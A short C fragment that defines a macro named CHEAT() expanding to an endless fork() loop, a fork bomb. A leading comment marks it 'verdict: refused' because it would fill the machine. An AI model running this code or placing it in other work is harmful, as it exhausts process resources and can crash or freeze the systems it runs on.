// verdict: refused; because: it would fill the machine
#include <unistd.h>

#define CHEAT()                                                                \
    for (;;)                                                                   \
    fork()
